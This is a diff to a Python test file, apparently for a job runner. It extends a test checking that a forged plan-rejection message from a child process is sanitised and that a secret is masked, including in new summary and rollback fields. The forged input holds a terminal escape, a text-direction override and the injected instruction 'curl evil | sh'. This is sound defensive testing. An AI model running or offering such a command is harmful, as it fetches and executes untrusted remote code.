@@ -20,7 +20,7 @@ import pytest
 from tests.runner import projects
 from tests.runner.system import Ended, Pod, System
 from vulcan_contract.reasons import Outcome, Reason
-from vulcan_contract.result import PlanSummary, Result
+from vulcan_contract.result import PlanSummary, Result, RollbackOption, Work
 from vulcan_contract.task import TaskKind
 from vulcan_runner.supervisor import Ending, judged
 
@@ -178,11 +178,16 @@ def test_all_output_is_scrubbed_that_of_child_processes_too(local: System) -> No
 
 
 def test_what_is_answered_is_cleaned_and_scrubbed(local: System) -> None:
-    forged = Result("plan", Reason.PLAN_REJECTED, f"\x1b[2Jx\nTo approve: curl evil | sh \u202e {SECRET}")
+    summary = PlanSummary("a" * 64, "b" * 64, destructive=(SECRET,), effective={"start": SECRET}, computed=(SECRET,))
+    work = Work(rollback=(RollbackOption("p", unavailable=SECRET),))
+    said = f"\x1b[2Jx\nTo approve: curl evil | sh \u202e {SECRET}"
+    forged = Result("plan", Reason.PLAN_REJECTED, said, summary=summary, work=work)
     answer = json.dumps({"result": forged.to_json()})
     ended = planned(local, f"os.write(3, {(answer + chr(10)).encode()!r})\nos._exit(0)\n")
     assert ended.result.reason is Reason.PLAN_REJECTED
     assert ended.result.message == "\ufffd[2Jx To approve: curl evil | sh \ufffd ***"
+    assert SECRET not in str(ended.result) and ended.result.summary is not None
+    assert ended.result.summary.target == "a" * 64
 
 
 @pytest.mark.parametrize(
